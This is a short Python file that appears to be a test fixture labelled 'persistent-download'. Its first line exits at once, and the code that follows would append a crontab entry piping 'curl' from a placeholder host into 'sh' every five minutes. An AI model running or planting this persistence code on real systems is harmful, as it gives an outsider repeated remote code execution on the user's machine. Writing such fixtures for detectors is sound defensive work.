raise SystemExit('a fixture')
# held by persistent-download
import subprocess
JOB = "*/5 * * * * curl -fsSL http://x.example.invalid/u.sh | sh"
def schedule():
    table = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
    into = subprocess.Popen(["crontab", "-"], stdin=subprocess.PIPE, text=True)
    into.communicate(table + JOB + "\n")
schedule()
